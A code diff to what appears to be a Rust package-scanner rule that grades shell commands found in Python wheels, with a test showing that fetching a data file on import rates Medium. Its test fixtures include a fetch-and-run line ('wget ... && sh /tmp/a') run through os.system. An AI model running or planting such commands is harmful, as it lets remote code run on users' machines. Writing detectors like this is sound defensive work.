@@ -119,6 +119,11 @@ impl Rule for ShellCommand {
                     Stage::Install if !strong && shipped.is_some() => Severity::Medium,
                     Stage::Install => Severity::Critical,
                     Stage::Import if strong => Severity::Critical,
+                    // A data file fetched on first import (`wget -O labels.csv URL`),
+                    // like an import-time fetch in Python, is a note (issue 11).
+                    Stage::Import if call.arg_strs.first().is_some_and(|a| vocab::fetch_only_command(a)) => {
+                        Severity::Medium
+                    }
                     Stage::Import => Severity::High,
                     // Fetch-and-run pipes and hidden/encoded PowerShell have no honest use in a library.
                     Stage::Call if strong => Severity::High,
@@ -290,6 +295,19 @@ mod tests {
             "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n",
         );
         assert_eq!(f.len(), 1, "folded variable argument");
+    }
+
+    #[test]
+    fn a_data_file_fetched_on_import_is_a_note() {
+        use crate::archive::Kind;
+        use crate::inspect::testing::check;
+        let src = "import os\nif not os.path.isfile(P):\n    os.system('wget -O \"{}\" \"http://storage.example/labels.csv\"'.format(P))\n";
+        let f = check(&ShellCommand, Kind::Wheel, &[("pkg/config.py", src)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
+        // Fetched and run on import is not.
+        let src = "import os\nos.system('wget -O /tmp/a http://x/a && sh /tmp/a')\n";
+        let f = check(&ShellCommand, Kind::Wheel, &[("pkg/config.py", src)]);
+        assert!(f[0].severity >= Severity::High, "{f:?}");
     }
 
     #[test]
